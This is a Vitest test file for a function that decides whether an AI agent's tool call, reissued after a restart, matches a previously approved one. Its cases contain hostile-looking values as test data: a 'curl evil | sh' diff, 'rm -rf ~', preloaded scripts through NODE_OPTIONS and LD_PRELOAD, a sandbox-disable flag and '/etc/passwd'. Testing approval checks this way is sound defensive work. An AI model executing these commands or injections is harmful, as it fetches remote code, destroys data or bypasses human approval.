import { describe, expect, it } from 'vitest';
import type { ToolCallSummary } from '../../main/domain/pending.js';
import { canonicalJson, sameToolCall, toolCallIdentity } from '../../main/domain/tool-call-identity.js';

const WS = '/home/ana/project';
const npmTest: ToolCallSummary = { title: 'npm test', kind: 'execute', rawInput: { command: 'npm test', cwd: WS } };

/** The call approved before the restart, the call the agent issued after it, and whether the verdict covers it. */
const CASES: { name: string; approved: ToolCallSummary; reissued: ToolCallSummary; same: boolean }[] = [
  { name: 'the very same call', approved: npmTest, reissued: { ...npmTest }, same: true },
  {
    name: 'the same fields in another key order',
    approved: npmTest,
    reissued: { title: 'npm test', kind: 'execute', rawInput: { cwd: WS, command: 'npm test' } },
    same: true,
  },
  {
    name: 'the same command in another folder, with a preloaded script and the sandbox off',
    approved: npmTest,
    reissued: {
      title: 'npm test',
      kind: 'execute',
      rawInput: {
        command: 'npm test',
        cwd: '/',
        env: { NODE_OPTIONS: '--require /tmp/evil.js' },
        dangerouslyDisableSandbox: true,
      },
    },
    same: false,
  },
  {
    name: 'only the working directory changed',
    approved: npmTest,
    reissued: { ...npmTest, rawInput: { command: 'npm test', cwd: '/' } },
    same: false,
  },
  {
    name: 'one more field that is off by default',
    approved: npmTest,
    reissued: { ...npmTest, rawInput: { command: 'npm test', cwd: WS, dangerouslyDisableSandbox: false } },
    same: false,
  },
  {
    name: 'an argv split differently (the words join to the same text)',
    approved: { title: 'sh', kind: 'execute', rawInput: { command: ['sh', '-c', 'ls ; touch X'] } },
    reissued: { title: 'sh', kind: 'execute', rawInput: { command: ['sh', '-c', 'ls', '; touch X'] } },
    same: false,
  },
  {
    name: 'a command as a string and as an argv',
    approved: { title: 'ls', kind: 'execute', rawInput: { command: 'ls -la' } },
    reissued: { title: 'ls', kind: 'execute', rawInput: { command: ['ls', '-la'] } },
    same: false,
  },
  {
    name: 'another kind',
    approved: npmTest,
    reissued: { ...npmTest, kind: 'other' },
    same: false,
  },
  {
    name: 'another location',
    approved: { ...npmTest, locations: [{ path: `${WS}/a.txt` }] },
    reissued: { ...npmTest, locations: [{ path: '/etc/passwd' }] },
    same: false,
  },
  {
    name: 'an edit with the same title, kind and locations but another diff (no raw input: never)',
    approved: { title: 'Edit a.txt', kind: 'edit', locations: [{ path: `${WS}/a.txt` }] },
    reissued: { title: 'Edit a.txt', kind: 'edit', locations: [{ path: `${WS}/a.txt` }] },
    same: false,
  },
  {
    name: 'an edit with another diff in its raw input',
    approved: { title: 'Edit', kind: 'edit', rawInput: { path: 'a.txt', diff: '+safe' } },
    reissued: { title: 'Edit', kind: 'edit', rawInput: { path: 'a.txt', diff: '+curl evil | sh' } },
    same: false,
  },
  {
    name: 'an edit with the same raw input',
    approved: { title: 'Edit', kind: 'edit', rawInput: { path: 'a.txt', diff: '+safe' } },
    reissued: { title: 'Edit', kind: 'edit', rawInput: { diff: '+safe', path: 'a.txt' } },
    same: true,
  },
  {
    name: 'a raw input on one side only',
    approved: { title: 'touch a', kind: 'execute' },
    reissued: { title: 'touch a', kind: 'execute', rawInput: { command: 'rm -rf ~' } },
    same: false,
  },
  {
    name: 'Gemini CLI (no raw input, the title is the command): the same command',
    approved: { title: 'touch /w/a.txt', kind: 'execute', locations: [] },
    reissued: { title: 'touch /w/a.txt', kind: 'execute', locations: [] },
    same: true,
  },
  {
    name: 'Gemini CLI: another command under the same kind',
    approved: { title: 'touch /w/a.txt', kind: 'execute' },
    reissued: { title: 'rm -rf /w', kind: 'execute' },
    same: false,
  },
  {
    name: 'no raw input and no kind: a title alone never matches',
    approved: { title: 'Run' },
    reissued: { title: 'Run' },
    same: false,
  },
  {
    name: "Codex's per-issue ids without the agent's volatile fields named",
    approved: { title: 't', kind: 'execute', rawInput: { call_id: 'call_1', command: ['touch', 'a'] } },
    reissued: { title: 't', kind: 'execute', rawInput: { call_id: 'call_2', command: ['touch', 'a'] } },
    same: false,
  },
];

describe('sameToolCall (a verdict carried over a restart covers only the whole same call)', () => {
  it.each(CASES)('$name: $same', ({ approved, reissued, same }) => {
    expect(sameToolCall(approved, reissued)).toBe(same);
    expect(sameToolCall(reissued, approved)).toBe(same);
  });
});

describe("an agent's volatile fields", () => {
  const VOLATILE = ['call_id', 'turn_id', 'started_at_ms'];
  // codex-acp 0.16.0's two issues of one approved call in the agents lane (paths shortened).
  const codex = (callId: string, turnId: string, at: number, extra: Record<string, unknown> = {}): ToolCallSummary => ({
    title: 'touch /w/after-restart.txt',
    kind: 'execute',
    rawInput: {
      call_id: callId,
      turn_id: turnId,
      started_at_ms: at,
      command: ['/bin/bash', '-lc', 'touch /w/after-restart.txt'],
      cwd: '/w',
      parsed_cmd: [{ type: 'unknown', cmd: 'touch /w/after-restart.txt' }],
      ...extra,
    },
  });

  it('are left out, so the same call issued again matches', () => {
    expect(sameToolCall(codex('call_1', 't1', 1796290128782), codex('call_2', 't2', 1796290133018), VOLATILE)).toBe(
      true,
    );
  });

  it('never hide a change in a field that runs', () => {
    const other = codex('call_2', 't2', 1796290133018, { cwd: '/' });
    expect(sameToolCall(codex('call_1', 't1', 1796290128782), other, VOLATILE)).toBe(false);
    const env = codex('call_2', 't2', 1796290133018, { env: { LD_PRELOAD: '/tmp/x.so' } });
    expect(sameToolCall(codex('call_1', 't1', 1796290128782), env, VOLATILE)).toBe(false);
  });

  it('are top-level fields only: a nested field of the same name still counts', () => {
    const a: ToolCallSummary = { title: 't', kind: 'execute', rawInput: { command: 'x', meta: { call_id: 'a' } } };
    const b: ToolCallSummary = { title: 't', kind: 'execute', rawInput: { command: 'x', meta: { call_id: 'b' } } };
    expect(sameToolCall(a, b, VOLATILE)).toBe(false);
  });
});

describe('toolCallIdentity and canonicalJson', () => {
  it('sorts object keys at every level and keeps arrays in order', () => {
    expect(canonicalJson({ b: 1, a: { d: [2, 1], c: null } })).toBe('{"a":{"c":null,"d":[2,1]},"b":1}');
  });

  it('is the kind, the locations and the whole raw input', () => {
    expect(toolCallIdentity({ title: 'ignored', kind: 'execute', rawInput: { cwd: '/w', command: 'ls' } })).toBe(
      '{"kind":"execute","locations":[],"rawInput":{"command":"ls","cwd":"/w"}}',
    );
  });

  it('is nothing for an edit without raw input', () => {
    expect(toolCallIdentity({ title: 'Edit', kind: 'edit', locations: [{ path: '/w/a' }] })).toBeUndefined();
  });
});
